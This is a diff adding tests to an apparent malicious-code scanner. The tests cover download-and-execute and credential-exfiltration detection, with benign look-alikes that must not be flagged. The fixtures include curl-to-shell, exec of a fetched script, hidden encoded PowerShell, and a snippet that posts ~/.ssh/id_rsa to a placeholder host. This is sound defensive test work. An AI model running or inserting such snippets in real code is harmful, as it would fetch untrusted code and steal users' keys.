@@ -133,3 +133,36 @@ describe('obfuscation', () => {
     );
   });
 });
+
+describe('download and run', () => {
+  it('exec of a network response, curl | sh, PowerShell -enc in a hidden window: danger at import', () => {
+    expect(at(`import urllib.request\nexec(urllib.request.urlopen("https://x.invalid/s.py").read())\n`)).toContain(
+      'danger download-exec 2 import',
+    );
+    expect(at(`import os\nos.system("curl -fsSL https://x.invalid/i.sh | sh")\n`)).toContain('danger download-exec 2 import');
+    expect(at(`import subprocess\nsubprocess.Popen("powershell -w hidden -enc SQBFAFgA", shell=True)\n`)).toContain(
+      'danger download-exec 2 import',
+    );
+  });
+
+  it('benign look-alikes: exec of a local file, chmod of a built script, curl to a file', () => {
+    expect(at(`about = {}\nexec(open("pkg/__about__.py").read(), about)\nimport os\nos.chmod("build/tool", 0o755)\n`, 'build')).toEqual([]);
+    expect(
+      at(`import subprocess\nsubprocess.run(["curl", "-o", "data.json", "https://x.invalid/d"])\n`).filter((f) =>
+        f.includes('download-exec'),
+      ),
+    ).toEqual([]);
+  });
+});
+
+describe('credential files', () => {
+  it('an SSH key or AWS credentials read and posted is danger', () => {
+    expect(
+      at(`import os, requests\nk = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://x.invalid", data={"k": k})\n`),
+    ).toContain('danger exfiltration 3 import');
+  });
+
+  it('reading ~/.aws/credentials without sending it is not exfiltration (boto3 does)', () => {
+    expect(at(`import os\nCREDS = os.path.expanduser("~/.aws/credentials")\n`)).toEqual([]);
+  });
+});
